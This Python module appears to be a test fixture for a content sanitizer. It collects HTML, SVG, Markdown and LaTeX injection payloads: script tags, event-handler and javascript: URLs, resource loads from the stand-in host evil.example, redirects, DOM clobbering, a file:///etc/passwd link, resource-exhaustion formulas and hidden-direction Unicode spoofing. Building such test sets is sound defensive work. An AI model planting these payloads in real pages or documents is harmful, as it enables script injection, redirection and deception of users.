"""Texts that try to do something where they are shown: run, fetch, cover, mislead.

Each breaks out by another door. Whatever would run calls `alert`, whatever would fetch asks EVIL.
"""

from __future__ import annotations

EVIL = "http://evil.example"

HTML = (
    "<script>alert(1)</script>",
    f'<script src="{EVIL}/a.js"></script>',
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}/a.png">',
    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    f'<iframe src="{EVIL}/"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f'<object data="{EVIL}/a.swf"></object>',
    f'<embed src="{EVIL}/a.swf">',
    "<video><source onerror=alert(1)></video>",
    f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<video poster="{EVIL}/a.png"></video>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>open</details>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="javascript:alert(1)"><button>Submit</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    f'<link rel="stylesheet" href="{EVIL}/a.css">',
    f"<style>@import '{EVIL}/a.css'; * {{ display: none }}</style>",
    '<div style="position:fixed;inset:0;background:red">covered</div>',
    f'<div style="background:url({EVIL}/a.png)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    '<a href="javascript:alert(1)">a link</a>',
    '<a href="jAvAsCrIpT&#58;alert(1)">a link</a>',
    '<a id="root" name="root">clobber</a>',
    '<form id="main"><input name="getElementById"></form>',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<marquee onstart=alert(1)>moving</marquee>",
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    "<x onclick=alert(1)>custom</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip

SVG = (
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">svg link</text></a></svg>',
    f'<svg><image href="{EVIL}/a.png"/></svg>',
    f'<svg><use href="{EVIL}/a.svg#x"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
)

MARKDOWN = (
    "[a link](javascript:alert(1))",
    "[a link](JaVaScRiPt:alert(1))",
    "[a link](java\tscript:alert(1))",
    "[a link](&#106;avascript:alert(1))",
    "[a link](vbscript:msgbox(1))",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a link](data:text/html,<script>alert(1)</script>)",
    "[a link](blob:http://evil.example/1)",
    "[a link](file:///etc/passwd)",
    "[a link][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![a picture](javascript:alert(1))",
    f"![a picture]({EVIL}/a.png)",
    f"![a picture]({EVIL}/a.png \"onerror=alert(1)\")",
    f"![a picture][2]\n\n[2]: {EVIL}/b.png",
    "![a picture](data:image/svg+xml,<svg/onload=alert(1)>)",
    f'[a link]({EVIL} "onmouseover=alert(1)")',
    '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "```\" onmouseover=\"alert(1)\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "- [ ] <script>alert(1)</script>",
    "A note.[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
)  # fmt: skip

FORMULAS = (
    "$$\\href{javascript:alert(1)}{x}$$",
    f"$$\\href{{{EVIL}}}{{x}}$$",
    f"$$\\includegraphics{{{EVIL}/a.png}}$$",
    "$$\\htmlData{onclick=alert(1)}{x}$$",
    "$$\\htmlStyle{position:fixed;inset:0}{x}$$",
    "$$\\url{javascript:alert(1)}$$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$$\\rule{9000em}{9000em}$$",
    "$\\href{javascript:alert(1)}{x}$ and $5",
    "$\\text{<img src=x onerror=alert(1)>}$ and $10",
)

# Right-to-left overrides and isolates that are never closed, and letters nobody sees.
DIRECTION = (
    "\u202egnp.exe is a picture",
    "\u2067\u202eadmin\u2069 said so",
    "safe\u200b\u200d\u2060text",
    "\u202a\u202b\u202c left open",
    "العربية \u202e then English",
    "\ufeff\u00ad hidden",
)

PAYLOADS = (*HTML, *SVG, *MARKDOWN, *FORMULAS, *DIRECTION)
